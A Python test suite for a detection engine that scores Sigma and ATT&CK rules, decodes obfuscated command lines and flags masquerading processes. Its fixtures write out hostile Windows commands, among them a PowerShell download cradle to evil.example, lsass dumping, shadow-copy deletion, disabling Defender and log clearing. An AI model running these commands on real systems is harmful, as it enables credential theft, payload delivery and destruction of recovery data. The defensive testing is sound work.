"""The detection of tools.behaviour (Sigma rules over command lines and their decoded layers,
obfuscation and image rules), its scoring, and the deobfuscation it runs on (tools.decode)."""

from __future__ import annotations

import base64

import pytest

from core.schemas import Severity
from tools.attack import AttackKB
from tools.behaviour import (
    OBFUSCATION_RULES,
    ProcessView,
    Rule,
    RuleHit,
    Stage,
    assess,
    base_name,
    command_image,
    rule_catalogue,
    scan_command,
    scan_process,
    scan_text,
)
from tools.decode import decode_char_codes, normalise_escapes, unfold
from tools.sigma.corpus import default_engine
from tools.sigma.engine import SigmaEngine


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


ENCODED_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"

# Command lines written for these tests, each showing one technique's behaviour in a generic
# form, and the ATT&CK technique the rules must find on it (a sub-technique of the same
# technique counts: SigmaHQ tags some rules with the parent).
TECHNIQUES: list[tuple[str, str]] = [
    (
        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('https://x.example/a')\"",
        "T1059.001",
    ),
    ('wmic process call create "notepad.exe"', "T1047"),
    ("cscript //nologo C:\\Users\\ann\\AppData\\Local\\Temp\\stage.vbs", "T1059"),
    ("curl -o C:\\Users\\Public\\t.exe https://198.51.100.7/t.exe", "T1105"),
    ("certutil.exe -urlcache -split -f http://files.example/t.exe t.exe", "T1105"),
    ("bitsadmin /transfer j /download http://files.example/t.exe C:\\Temp\\t.exe", "T1197"),
    ("netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.1.1.5", "T1090"),
    ("powershell.exe -nop -w hidden -c Get-Date", "T1564.003"),
    ('cmd.exe /c "start /b /min C:\\Users\\x\\Music\\run.vbs"', "T1564.003"),
    ("certutil -decode blob.txt out.exe", "T1027"),
    ("rundll32.exe C:\\Users\\ann\\AppData\\Local\\Temp\\l.dll,Entry", "T1218.011"),
    ("regsvr32 /s /n /u /i:http://files.example/x.sct scrobj.dll", "T1218.010"),
    ("mshta.exe http://files.example/x.hta", "T1218.005"),
    ("msiexec /q /i http://files.example/p.msi", "T1218.007"),
    ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "T1685"),
    ("sc stop WinDefend", "T1685"),
    ("wevtutil cl System", "T1685.005"),
    ("auditpol /clear /y", "T1685.001"),
    ("fsutil usn deletejournal /d d:", "T1070"),
    ('"chrome.exe" --load-extension="C:\\Users\\u\\AppData\\Local\\Temp\\e"', "T1176.001"),
    ("procdump.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp", "T1003.001"),
    (
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\Temp\\m.bin full",
        "T1003.001",
    ),
    ("reg save HKLM\\SYSTEM C:\\Temp\\sys.hiv", "T1003.002"),
    ('ntdsutil "ac i ntds" "ifm" "create full C:\\Temp\\x" q q', "T1003.003"),
    ("netsh trace start capture=yes tracefile=C:\\Temp\\c.etl", "T1040"),
    ("schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon", "T1053.005"),
    (
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
        "T1547.001",
    ),
    ('sc.exe create upd binPath= "C:\\Users\\Public\\u.exe" start= auto', "T1543.003"),
    (
        "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{}",
        "T1546.003",
    ),
    ("net user helpdesk2 Winter2024! /add", "T1136.001"),
    ("net localgroup administrators helpdesk2 /add", "T1098"),
    ("sqlcmd -S db01 -Q \"EXEC master..xp_cmdshell 'hostname'\"", "T1505.001"),
    ("tscon 3 /dest:rdp-tcp#7", "T1563.002"),
    ('wmic /node:10.1.1.9 process call create "cmd /c hostname"', "T1047"),
    ("vssadmin delete shadows /all /quiet", "T1490"),
    ("bcdedit /set {default} recoveryenabled No", "T1490"),
    ("cipher /w:D:", "T1485"),
    ("nltest /domain_trusts /all_trusts", "T1482"),
    ("cmdkey /list", "T1003.005"),
    ("systeminfo", "T1082"),
]

# Ordinary administration and user activity: no rule of severity medium or more may fire.
BENIGN = [
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\a\\q3.docx"',
    "notepad.exe C:\\Users\\bob\\Documents\\notes.txt",
    "git clone https://github.com/org/repo.git",
    '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"',
    "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    "schtasks /query /fo LIST",
    "sc query WinDefend",
    "rundll32.exe shell32.dll,OpenAs_RunDLL C:\\Users\\b\\Downloads\\report.pdf",
    "powershell.exe -NoProfile -WindowStyle Normal -File C:\\Scripts\\inventory.ps1",
    "Get-WmiObject -Namespace root\\subscription -Class __EventFilter",
]


@pytest.fixture(scope="module")
def attack() -> AttackKB:
    return AttackKB.load()


@pytest.fixture(scope="module")
def engine() -> SigmaEngine:
    return default_engine()


def scan(engine: SigmaEngine, text: str, image: str = "", parent_image: str = "") -> list[RuleHit]:
    return scan_command(engine, text, "t", image=image, parent_image=parent_image)


def techniques(hits: list[RuleHit]) -> set[str]:
    return {t for hit in hits for t in hit.rule.techniques}


def shows(found: set[str], expected: str) -> bool:
    """Whether ``expected`` is found, or a technique of the same parent."""
    parent = expected.split(".")[0]
    return any(t == expected or t.split(".")[0] == parent for t in found)


def test_every_rule_is_documented_and_maps_to_current_attack(attack: AttackKB) -> None:
    rules = rule_catalogue()
    assert len({r.id for r in rules}) == len(rules)
    for rule in rules:
        assert rule.techniques, rule.id
        for technique in rule.techniques:
            # The id is the current one (not revoked, not deprecated).
            assert attack.canonical_id(technique) == technique, (rule.id, technique)
        assert 0 < rule.weight < 1, rule.id
        assert rule.rationale, rule.id
        assert rule.title, rule.id


@pytest.mark.parametrize(("text", "technique"), TECHNIQUES)
def test_the_sigma_rules_find_the_technique_of_a_command(
    engine: SigmaEngine, text: str, technique: str
) -> None:
    hits = scan(engine, text)
    assert shows(techniques(hits), technique), sorted(h.rule.title for h in hits)
    for hit in hits:
        assert hit.source == "t"
        assert 0 < len(hit.excerpt) <= 160


def test_the_technique_table_is_mostly_found_at_medium_or_worse(engine: SigmaEngine) -> None:
    serious = [
        text
        for text, technique in TECHNIQUES
        if any(
            shows(set(h.rule.techniques), technique) and h.rule.severity >= "medium"
            for h in scan(engine, text)
        )
    ]
    # Discovery (systeminfo) is rated low by SigmaHQ; everything else is an attack step.
    assert len(serious) >= len(TECHNIQUES) - 2


@pytest.mark.parametrize("text", BENIGN)
def test_benign_commands_raise_nothing_serious(engine: SigmaEngine, text: str) -> None:
    serious = {h.rule.title for h in scan(engine, text) if h.rule.severity >= "medium"}
    assert serious == set()


def test_a_sigma_hit_is_a_rule_with_its_level_and_tags(engine: SigmaEngine) -> None:
    [hit] = [
        h
        for h in scan(engine, "vssadmin.exe delete shadows /all /quiet")
        if "T1490" in h.rule.techniques
    ]
    assert hit.rule.title.endswith("(Sigma, high)")
    assert (hit.rule.severity, hit.rule.weight, hit.rule.stage) == ("high", 0.7, "impact")
    assert "vssadmin" in hit.excerpt.lower()


def test_rules_are_case_insensitive_and_see_through_quotes(engine: SigmaEngine) -> None:
    assert "T1490" in techniques(
        scan(engine, '"C:\\WINDOWS\\SYSTEM32\\VSSADMIN.EXE" DELETE SHADOWS /ALL')
    )
    assert "T1053.005" in techniques(scan(engine, "SCHTASKS.EXE /CREATE /TN x /TR y /RU SYSTEM"))


def test_command_image_names_the_program_or_nothing() -> None:
    assert command_image("vssadmin delete shadows") == "C:\\Windows\\System32\\vssadmin.exe"
    assert (
        command_image('"C:\\Program Files (x86)\\A\\a.exe" /q')
        == "C:\\Program Files (x86)\\A\\a.exe"
    )
    assert command_image("\\??\\C:\\Windows\\system32\\conhost.exe 0x4") == (
        "C:\\Windows\\system32\\conhost.exe"
    )
    assert command_image("%ComSpec% /c dir") == "C:\\Windows\\System32\\cmd.exe"
    # Script fragments, cmdlets and blobs start no program.
    for text in (
        "IEX(New-Object Net.WebClient)",
        "[Ref].Assembly.GetType('x')",
        "Start-BitsTransfer -Source x",
        "c^m^d /c x",
        base64.b64encode(b"wevtutil cl Security and more").decode(),
        "",
    ):
        assert command_image(text) == "", text


def test_parent_and_child_are_judged_by_the_sigma_rules(engine: SigmaEngine) -> None:
    cmd = "C:\\Windows\\System32\\cmd.exe"
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    cases = [
        (cmd, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "T1204.002"),
        (cmd, "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe", "T1505.003"),
        (cmd, "c:\\windows\\system32\\inetsrv\\w3wp.exe", "T1505.003"),
        (powershell, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "T1047"),
    ]
    for image, parent, technique in cases:
        hits = scan(engine, f"{base_name(image)} /c hostname", image=image, parent_image=parent)
        assert technique in techniques(hits), (parent, sorted(h.rule.title for h in hits))
    # Explorer starting cmd, and Office opening a document, are ordinary.
    ordinary = scan(engine, "cmd.exe /c dir", image=cmd, parent_image="C:\\Windows\\explorer.exe")
    assert [h for h in ordinary if h.rule.severity >= "medium"] == []


def test_encoded_powershell_is_decoded_and_its_payload_scanned(engine: SigmaEngine) -> None:
    line = f"powershell -nop -w hidden -enc {_enc(ENCODED_CRADLE)}"
    layers = unfold(line)
    assert [layer.method for layer in layers] == ["powershell_encoded_command"]
    assert layers[0].text == ENCODED_CRADLE
    hits = scan_command(engine, line, "cmd", layers=layers)
    where = {t: h.source for h in hits for t in h.rule.techniques}
    assert where["T1564.003"] == "cmd"  # the hidden window is on the command line
    cradle = [h for h in hits if h.source == "cmd (powershell_encoded_command)"]
    assert "T1059.001" in techniques(cradle)
    # One hit per rule, on the outermost text where it fires.
    assert len({h.rule.id for h in hits}) == len(hits)


def test_layers_are_decoded_when_not_given(engine: SigmaEngine) -> None:
    nested = base64.b64encode(base64.b64encode(b"wevtutil cl Security")).decode()
    layers = unfold(nested)
    assert [layer.method for layer in layers] == ["base64", "base64 > base64"]
    assert layers[-1].text == "wevtutil cl Security"
    hits = scan(engine, nested)
    assert {h.source for h in hits if "T1685.005" in h.rule.techniques} == {"t (base64 > base64)"}


def test_obfuscation_rules_stay_code(engine: SigmaEngine) -> None:
    examples = {
        "char_code_obfuscation": "[char]73+[char]69+[char]88+[char]32",
        "cmd_caret_obfuscation": "c^m^d /c p^o^w^e^r^s^h^e^l^l -c x",
        "embedded_pe_base64": "cmd /c echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA>>a.b64",
        "echo_base64_staging": "cmd /c echo " + "QUFB" * 20 + ">>%TEMP%\\x.b64",
    }
    assert set(examples) == {r.id for r in OBFUSCATION_RULES}
    for rule_id, text in examples.items():
        assert rule_id in {h.rule.id for h in scan_text(text, "t")}
        assert rule_id in {h.rule.id for h in scan(engine, text)}


def test_char_codes_are_decoded() -> None:
    codes = ",".join(str(ord(c)) for c in "IEX (New-Object Net.WebClient)")
    assert decode_char_codes(f"-join ('{codes}'.split(',') | %{{[char]$_}})") == (
        "-join ('IEX (New-Object Net.WebClient)'.split(',') | %{[char]$_})"
    )
    assert decode_char_codes("[char]73+[char]69+[char]88+[char]32") == "IEX "
    # Version numbers, addresses and dates are not text.
    assert decode_char_codes("10.0.19041.746 10.23.123.11 2021-04-21T13:30:00") is None
    assert decode_char_codes("1,2,3,4,5,6,7,8,9,10") is None


def test_escapes_and_concatenation_are_undone() -> None:
    assert normalise_escapes("'Am'+'siUt'+'ils'") == "'AmsiUtils'"
    assert normalise_escapes("p^o^w^e^r^s^h^e^l^l") == "powershell"
    assert normalise_escapes("I`E`X") == "IEX"
    assert normalise_escapes("plain text") is None


# -- image and file rules ---------------------------------------------------------------------


def process_rules(view: ProcessView) -> set[str]:
    return {hit.rule.id for hit in scan_process(view, "p")}


def test_location_and_masquerading_rules() -> None:
    assert process_rules(ProcessView("C:\\Windows\\System32\\svchost.exe")) == set()
    assert process_rules(ProcessView("\\??\\C:\\Windows\\system32\\conhost.exe")) == set()
    assert process_rules(ProcessView("%SystemRoot%\\System32\\svchost.exe")) == set()
    assert process_rules(ProcessView("C:\\Windows\\explorer.exe")) == set()
    assert process_rules(ProcessView("C:\\Users\\Public\\svchost.exe")) == {
        "temp_execution",
        "masquerade_location",
    }
    assert process_rules(ProcessView("C:\\Windows\\svchost.exe")) == {"masquerade_location"}
    assert process_rules(ProcessView("C:\\ProgramData\\scvhost.exe")) == {"masquerade_lookalike"}
    assert process_rules(ProcessView("C:\\Windows\\Temp\\TVupu.exe")) == {"temp_execution"}
    assert process_rules(ProcessView("C:\\Users\\a\\AppData\\Roaming\\sihostt.exe")) == {
        "user_folder_execution",
        "masquerade_lookalike",
    }
    # A bare name says nothing about where it runs.
    assert process_rules(ProcessView("svchost.exe")) == set()
    # Data files in a user folder are not programs.
    assert process_rules(ProcessView("C:\\Users\\a\\Downloads\\report.pdf")) == set()


def test_deceptive_names_and_renamed_tools() -> None:
    assert process_rules(ProcessView("D:\\share\\invoice.pdf.exe")) == {"double_extension"}
    assert process_rules(ProcessView("D:\\share\\Ann\u202egepj.exe")) == {"rtlo_name"}
    assert process_rules(
        ProcessView("D:\\tools\\renamed-wscript.exe", original_file_name="wscript.exe")
    ) == {"renamed_binary"}
    assert (
        process_rules(
            ProcessView("C:\\Windows\\System32\\wscript.exe", original_file_name="wscript.exe")
        )
        == set()
    )


# -- scoring ----------------------------------------------------------------------------------


# Rules as scoring sees them: (stage, severity, weight) by a name for the test.
SCORED: dict[str, tuple[Stage, Severity, float]] = {
    "task": ("persistence", Severity.MEDIUM, 0.6),
    "download": ("command_and_control", Severity.HIGH, 0.8),
    "remote_exec": ("lateral_movement", Severity.MEDIUM, 0.6),
    "encoded": ("defense_evasion", Severity.MEDIUM, 0.6),
    "hidden": ("defense_evasion", Severity.MEDIUM, 0.5),
    "cradle": ("execution", Severity.HIGH, 0.8),
    "whoami": ("discovery", Severity.LOW, 0.25),
    "bypass": ("execution", Severity.LOW, 0.3),
    "dump": ("credential_access", Severity.CRITICAL, 0.9),
    "dcsync": ("credential_access", Severity.CRITICAL, 0.9),
    "shadows": ("impact", Severity.CRITICAL, 0.9),
}


def _hits(*names: str) -> list[RuleHit]:
    def rule(name: str) -> Rule:
        stage, severity, weight = SCORED[name]
        return Rule(name, name, ("T1059",), stage, severity, weight, "for scoring")

    return [RuleHit(rule(name), "s", "x") for name in names]


def test_assess_without_hits() -> None:
    quiet = assess([], behaviour=True)
    assert (quiet.severity, quiet.confidence, quiet.escalated) == ("informational", 0.4, False)
    assert assess([], behaviour=False).confidence == 0.2


def test_assess_takes_the_worst_rule_and_combines_weights() -> None:
    one = assess(_hits("task"), behaviour=True)
    assert (one.severity, one.confidence) == ("medium", 0.6)
    # Two rules: 1 - (1 - 0.6)(1 - 0.8) = 0.92; the same rule twice counts once.
    two = assess(_hits("task", "download", "download"), behaviour=True)
    assert (two.severity, two.confidence) == ("high", 0.92)
    assert two.stages == ("command_and_control", "persistence")
    assert not two.escalated


def test_assess_escalates_activity_spanning_three_phases() -> None:
    spread = assess(_hits("download", "task", "remote_exec"), behaviour=True)
    assert spread.escalated
    assert spread.severity == "critical"
    assert spread.phases == ("delivery", "foothold", "lateral movement")
    # A hidden, encoded download cradle is one phase (delivery) however many stages it has.
    cradle = assess(
        _hits("encoded", "hidden", "cradle", "download"),
        behaviour=True,
    )
    assert (cradle.severity, cradle.escalated) == ("high", False)
    # Discovery and low rules do not count towards breadth.
    narrow = assess(_hits("download", "whoami", "bypass"), behaviour=True)
    assert not narrow.escalated
    assert narrow.severity == "high"
    # Confidence is capped: rules agreeing are still rules.
    many = assess(_hits("dump", "dcsync", "shadows"), behaviour=True)
    assert many.confidence == 0.95
    assert many.severity == "critical"
